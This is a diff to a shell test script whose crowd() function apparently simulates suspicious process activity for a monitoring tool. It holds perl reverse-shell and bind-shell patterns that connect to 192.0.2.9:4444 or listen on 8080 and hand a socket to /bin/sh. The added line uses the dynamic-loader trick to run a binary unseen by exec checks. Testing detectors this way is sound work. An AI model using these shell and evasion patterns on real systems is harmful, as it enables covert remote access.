@@ -44,6 +44,7 @@ crowd() {
 	as bob perl -e 'for (1..40) { fork or do { select undef, undef, undef, 1; exit } } 1 while wait > 0'
 	as bob perl -e "$call print \$s \"\\n\"; <\$s>; system('sh', '-c', 'true')" 192.0.2.9 4444
 	as bob perl -e "$call $as_terminal" 127.0.0.1 4445
+	as bob perl -e "$call ${as_terminal/exec(*)/exec(\"/lib64/ld-linux-x86-64.so.2\", \"/bin/true\")}" 192.0.2.9 4444
 	as bob sh -c 'cp /bin/true /tmp/tool.$$; /tmp/tool.$$; cp /bin/sleep mine; ./mine 1 & sleep 0.3; rm mine /tmp/tool.$$; wait'
 	as bob perl -MIO::Socket::INET -e '$l = IO::Socket::INET->new(LocalAddr => "192.0.2.1", LocalPort => 8080, Listen => 5, ReuseAddr => 1) or die;
 		alarm 20; $c = $l->accept; open(STDIN, "<&", $c); open(STDOUT, ">&", $c); exec("/bin/sh", "-c", "echo hello")' &
